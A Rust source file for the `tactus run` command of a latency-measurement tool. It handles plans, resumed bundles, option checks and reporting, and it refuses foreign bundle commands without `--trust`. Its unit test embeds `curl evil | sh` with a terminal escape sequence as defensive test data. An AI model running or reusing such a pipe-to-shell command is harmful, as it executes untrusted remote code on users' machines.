//! `tactus run [STUDY|PLAN]`.

use std::io;
use std::path::Path;

use tactus_bundle::{Location, Resumed, limits};
use tactus_model::bundle::{Contents, Present};
use tactus_model::plan::{Environment, OTHER_STATE, Plan};
use tactus_report::render::text::{render, screen};
use tactus_report::units::{clean, duration, shortened};
use tactus_run::plan::{
    Choices, Resolved, STUDIES, Scope, Source, commands, embed_cards, may_be_real_time, parse, study,
    this_machine,
};
use tactus_run::{Destination, keep_complete};
use tactus_system::{Real, System, leave_terminal};

use super::baseline::{self, Base};
use super::drop_in::words;
use super::execute::{prepare, present, watched as execute};
use super::lock::lock;
use super::needs::say_needs;
use super::seed;
use crate::cli::Run;
use crate::exit::{Exit, Failure};
use crate::live::Progress;
use crate::load::load;
use crate::nearest;
use crate::output;
use crate::place::Place;
use crate::say::{say, typed};
use crate::watching::Watching;

/// From this on a run says how long it will take, in ns.
const LONG_NS: u64 = 30_000_000_000;
/// From this on also what it will take of disk and memory, in ns.
const HUGE_NS: u64 = 3_600_000_000_000;

/// `verbose`: all that the report has is printed at the end, and not one screen.
pub fn run(arguments: &Run, verbose: bool) -> Result<Exit, Failure> {
    if arguments.detach.detached {
        leave_terminal()?;
    }
    // Report errors in the command line at once, before waiting for another measurement.
    let asked = arguments.plan.as_deref().map(named).transpose()?;
    let format = arguments.printed.word().map(super::report::format).transpose()?;
    let base = arguments.baseline.baseline.as_deref().map(Base::find).transpose()?;
    let scope = if asked.is_none() { scope(arguments)? } else { Scope::default() };
    // Before a bundle is opened that the other one may be writing.
    let turn = lock(&arguments.lock)?;
    let resumed = match &arguments.into {
        Some(dir) if is_filled(dir) => Some(Resumed::open(dir)?),
        _ => None,
    };
    let (mut plan, source) = match (asked, &resumed) {
        (None, Some(resumed)) if !names_a_measurement(arguments) => {
            if !arguments.trust && !is_study(resumed) {
                nothing_foreign(&resumed.plan)?;
            }
            (resumed.plan.clone(), Source::new("source.toml", ""))
        }
        (asked, _) => {
            let name = arguments.plan.as_deref();
            let (plan, source) = asked.unwrap_or_else(|| {
                if scope.ordinary {
                    say(ORDINARY);
                }
                (this_machine(&scope, &Real), Source::new("this machine", ""))
            });
            let is_file = name.is_some_and(|name| study(name).is_none());
            if let Some(told) = told(&plan).filter(|_| is_file) {
                say(format_args!(
                    "this plan also runs, reaches or changes the following, with your \
                    rights:\n{told}"
                ));
            }
            (plan, source)
        }
    };
    match (&resumed, &arguments.title) {
        // A resumed run keeps its title.
        (Some(resumed), _) => plan.title.clone_from(&resumed.plan.title),
        (None, Some(title)) => plan.title = Some(title.clone()),
        (None, None) => {}
    }
    let plan = plan;
    let mut choices = Choices {
        quick: arguments.quick || (resumed.is_none() && is_first_look(arguments)),
        duration: arguments.duration,
        interval: arguments.interval,
        repeat: arguments.repeat,
        interleave: arguments.interleave,
        in_turn: takes_turns(arguments),
        restart: arguments.restart.restart,
        blame_above: arguments.blame.blame_above,
        stop_above: arguments.blame.stop_above,
        only: arguments.only.clone(),
        no_side_effects: arguments.no_side_effects,
        require: arguments.limits.by_environment(),
        ..Choices::default()
    };
    if let Some(resumed) = &resumed {
        resumed.same_plan(&plan)?;
        if !arguments.force {
            resumed.same_machine(&tactus_run::describe(&Real))?;
        }
        choices = as_before(resumed, &choices)?;
    }
    // A resumed run keeps its seed.
    let begun = resumed.as_ref().and_then(|resumed| resumed.contents.plan.seed);
    choices.seed = begun.or(plan.seed).unwrap_or_else(seed::new);
    choices.state = present(&plan, arguments.host_state.as_deref())?;
    if let Some(state) = &choices.state {
        say(sentence(state));
    }
    let mut resolved = prepare(&plan, &source, &choices)?;
    let into = match &resumed {
        Some(resumed) => {
            let kept = keep_complete(resumed, &mut resolved)?;
            let of = resolved.scenarios.len();
            let dir = resumed.dir().path().display();
            say(format_args!("continuing {dir}: {kept} of {of} scenarios are complete"));
            Destination::Resume(resumed)
        }
        None => Destination::New(place(arguments, &plan.name)?, &plan),
    };
    // A resumed run keeps its duration.
    say_needs(&resolved, resumed.is_none().then(words));
    if let Some(sentence) = size_of(&resolved) {
        say(sentence);
    }
    let planned = resolved.rows.iter().filter_map(|row| row.result.repeat).max().unwrap_or(1);
    if let Some(base) = &base {
        say(base.needs(usize::try_from(planned).unwrap_or(1)));
    }
    let watching = Watching::of(&resolved, &arguments.screen, format.is_none());
    let progress = Progress::new(&resolved, watching.has_screen());
    let mut executed = execute(&turn, &resolved, &choices, into, progress, &watching)?;
    executed.contents.raw = arguments.raw;
    let full = format!("tactus report {}", typed(executed.dir.path()));
    let table = |contents: &Contents, style| match verbose {
        true => render(contents, style) + "\n",
        false => screen(contents, style, &full),
    };
    // A comparison that cannot be made leaves the run shown all the same.
    let gated = base.map(|base| base.against(executed.contents.clone()));
    let document = gated.as_ref().and_then(|gated| Some(&gated.as_ref().ok()?.document));
    super::report::after(&executed, format, table, document)?;
    let Some(gated) = gated else { return Ok(Exit::after(executed)) };
    let gated = gated?;
    if format.is_some() {
        say(gated.text);
    } else {
        output::data(&format!("\n{}", gated.text))?;
    }
    Ok(Exit::after(executed).and(gated.exit))
}

/// Where the new bundle goes.
fn place(arguments: &Run, plan: &str) -> Result<Location, Failure> {
    let Some(name) = &arguments.baseline.save_baseline else { return Ok(location(arguments.place(), plan)) };
    Ok(Location::Fresh(baseline::directory(name)?.join(fresh(plan))))
}

/// The time and size of a long run; `None` for a short one.
fn size_of(resolved: &Resolved) -> Option<String> {
    let ns = resolved.expected_ns();
    if (LONG_NS..HUGE_NS).contains(&ns) {
        let every = || resolved.scenarios.iter().filter(|one| one.is_first());
        let (all, skipped) = (every().count(), every().filter(|one| one.skip.is_some()).count());
        let time = duration(ns);
        return Some(match skipped {
            0 => format!("{all} measurements, {time} in all, plus start-up"),
            _ => format!(
                "{} of {all} measurements, {time} in all, plus start-up; {skipped} will be skipped",
                all - skipped
            ),
        });
    }
    (ns >= HUGE_NS).then(|| {
        let mb = |bytes: u64| bytes.div_ceil(1_000_000);
        let size = resolved.size();
        format!(
            "{} to measure, on {} CPUs: about {} MB on disk, up to {} MB if latencies are spread widely; \
             about {} MB of memory",
            duration(ns),
            resolved.measured.iter().count(),
            mb(size.disk),
            mb(size.most()),
            mb(size.memory)
        )
    })
}

/// Whether there is something in a directory.
fn is_filled(dir: &Path) -> bool {
    Real.list(dir).is_ok_and(|entries| !entries.is_empty())
}

/// The choices that the bundle was begun with. Options given again must be the same.
fn as_before(resumed: &Resumed, given: &Choices) -> Result<Choices, Failure> {
    let then = resumed.contents.manifest.asked.clone().unwrap_or_default();
    let now = given.asked();
    let differs = [
        ("--quick", now.quick && !then.quick),
        ("--duration", now.duration_ns.is_some() && now.duration_ns != then.duration_ns),
        ("--interval", now.interval_ns.is_some() && now.interval_ns != then.interval_ns),
        ("--repeat", now.repeat.is_some() && now.repeat != then.repeat),
        ("--interleave", now.interleave_ns.is_some() && now.interleave_ns != then.interleave_ns),
        ("--restart", now.restart.is_some() && now.restart != then.restart),
        ("--blame-above", now.blame_above_ns.is_some() && now.blame_above_ns != then.blame_above_ns),
        ("--stop-above", now.stop_above_ns.is_some() && now.stop_above_ns != then.stop_above_ns),
        ("--only", !now.only.is_empty() && now.only != then.only),
        ("limits", !now.require.is_empty() && now.require != then.require),
        ("--no-side-effects", now.no_side_effects && !then.no_side_effects),
    ];
    if let Some((option, _)) = differs.iter().find(|(_, differs)| *differs) {
        return Err(Failure::say(
            format!("{option}: the bundle was begun without it, or with another value"),
            "leave it out: the rest is measured with the bundle's options; or begin another bundle with \
                --out DIR",
        ));
    }
    Ok(Choices {
        quick: then.quick,
        duration: then.duration_ns.map(tactus_model::Nanos),
        interval: then.interval_ns.map(tactus_model::Nanos),
        repeat: then.repeat,
        interleave: then.interleave_ns.map(tactus_model::Nanos),
        in_turn: then.in_turn,
        restart: then.restart,
        blame_above: then.blame_above_ns.map(tactus_model::Nanos),
        stop_above: then.stop_above_ns.map(tactus_model::Nanos),
        only: then.only,
        no_side_effects: then.no_side_effects,
        require: then.require,
        ..Choices::default()
    })
}

/// The state of this machine in a sentence.
fn sentence(state: &Present) -> String {
    if state.declared {
        return format!("host state: {}, set by --host-state", state.name);
    }
    let lacks = state.lacks.iter().filter(|(_, lacks)| !lacks.is_empty());
    let lacks: Vec<String> =
        lacks.map(|(name, lacks)| format!("for {name} it lacks {}", lacks.join(", "))).collect();
    let name = if state.name == OTHER_STATE { "none of the plan's" } else { &state.name };
    format!("host state: {name} ({})", lacks.join("; "))
}

/// The note for measurements with threads of `SCHED_OTHER`.
const ORDINARY: &str = "note: this user may not use real-time threads: SCHED_OTHER is measured, which is not \
                        real-time and never passes. `sudo tactus run` adds real-time threads, the self-test \
                        and the host's settings";

/// Whether a run without a plan is the short one.
fn is_first_look(arguments: &Run) -> bool {
    let longer = arguments.long || arguments.duration.is_some() || arguments.interleave.is_some();
    arguments.plan.is_none() && !longer
}

/// Whether idle and loaded measurements of an environment take turns. A longer run with limits measures without
/// interruption, and so does a run that ends at a latency.
fn takes_turns(arguments: &Run) -> bool {
    let own =
        arguments.interleave.is_some() || arguments.repeat.is_some() || arguments.blame.stop_above.is_some();
    let judged = !arguments.limits.by_environment().is_empty() && !is_first_look(arguments);
    arguments.plan.is_none() && !own && !judged
}

/// Whether the command line says what is measured.
fn names_a_measurement(arguments: &Run) -> bool {
    !arguments.places.is_empty() || arguments.cpus.is_some() || !arguments.load.is_empty()
}

/// The scope of the measurement by the command line.
fn scope(arguments: &Run) -> Result<Scope, Failure> {
    let mut places: Vec<(String, Environment)> = Vec::new();
    for text in &arguments.places {
        let place = Place::of(text, &Real)?;
        if places.iter().all(|(name, _)| *name != place.name) {
            places.push((place.name, place.spec));
        }
    }
    let loads = arguments.load.iter().map(|text| load(text)).collect::<Result<_, _>>()?;
    Ok(Scope { places, cpus: arguments.cpus.clone(), loads, ordinary: !may_be_real_time(&Real) })
}

/// The plan that the user named: a study, or a file (or pipe).
pub fn named(name: &str) -> Result<(Plan, Source), Failure> {
    if let Some(study) = study(name) {
        let source = Source::new(study.name, study.text);
        return Ok((parse(&source)?, source));
    }
    let bytes = Real.read_at_most(Path::new(name), limits::PLAN);
    let text =
        bytes.and_then(|bytes| String::from_utf8(bytes).map_err(io::Error::other)).map_err(|error| {
            let studies: Vec<&str> = STUDIES.iter().map(|study| study.name).collect();
            let looks_like_a_file = Path::new(name).extension().is_some() || name.contains('/');
            let what = if looks_like_a_file {
                format!("{name}: {error}")
            } else {
                format!("`{name}` is neither a study nor a plan file")
            };
            let all =
                format!("studies are {}; a plan is a TOML file (docs/guide/plans.md)", studies.join(", "));
            let hint = match looks_like_a_file {
                true => format!("check the path of the plan, or name a study: {}", studies.join(", ")),
                false => nearest::hint(name, studies.iter().copied(), all),
            };
            Failure::say(what, hint)
        })?;
    let source = Source::new(name, text);
    let mut plan = parse(&source)?;
    embed_cards(&mut plan, &source, &Real)?;
    Ok((plan, source))
}

/// Most of a plan's commands that are told before they run, and most columns of each.
const SHOWN: (usize, usize) = (20, 200);

/// Whether the plan of a bundle is one that ships with tactus.
fn is_study(resumed: &Resumed) -> bool {
    let mut plans = STUDIES.iter().filter_map(|own| parse(&Source::new(own.name, own.text)).ok());
    plans.any(|plan| resumed.same_plan(&plan).is_ok())
}

/// Refuses to run commands of a bundle's plan that no user here has written: the author of the bundle chose them.
fn nothing_foreign(plan: &Plan) -> Result<(), Failure> {
    let Some(told) = told(plan) else { return Ok(()) };
    Err(Failure::say(
        format!("the bundle's own plan runs, reaches or changes what its author chose:\n{told}"),
        "also give the plan (`tactus run PLAN --into BUNDLE`), or use --trust if you know who wrote it",
    ))
}

/// The programs, places and settings of a plan, a line each; `None` if it only measures.
fn told(plan: &Plan) -> Option<String> {
    let all = commands(plan);
    let (most, columns) = SHOWN;
    let mut lines: Vec<String> =
        all.iter().take(most).map(|one| format!("  {}", shortened(&clean(one), columns))).collect();
    if all.len() > most {
        lines.push(format!("  and {} more", all.len() - most));
    }
    (!all.is_empty()).then(|| lines.join("\n"))
}

/// Where a new bundle goes: as the user named it, else `./tactus-PLAN-TIME`, with the local time.
pub fn location(named: Option<&Path>, plan: &str) -> Location {
    named.map_or_else(|| Location::Fresh(fresh(plan).into()), Location::from)
}

fn fresh(plan: &str) -> String {
    let now = jiff::Zoned::now().strftime("%Y%m%d-%H%M%S");
    format!("tactus-{}-{now}", tactus_model::bundle::slug(plan))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_of_a_bundle_are_told_before_they_run_and_cannot_spoil_the_terminal() {
        let mut plan = this_machine(&Scope::default(), &Real);
        nothing_foreign(&plan).unwrap();
        let line = Environment {
            kind: "serial".into(),
            options: [("command".to_owned(), "curl evil | sh\n\u{1b}[2K".into())].into(),
            ..Default::default()
        };
        plan.environment.insert("line".into(), line);
        let said = format!("{:?}", nothing_foreign(&plan).unwrap_err());
        assert!(said.contains("curl evil | sh") && said.contains("--trust"), "{said}");
    }
}
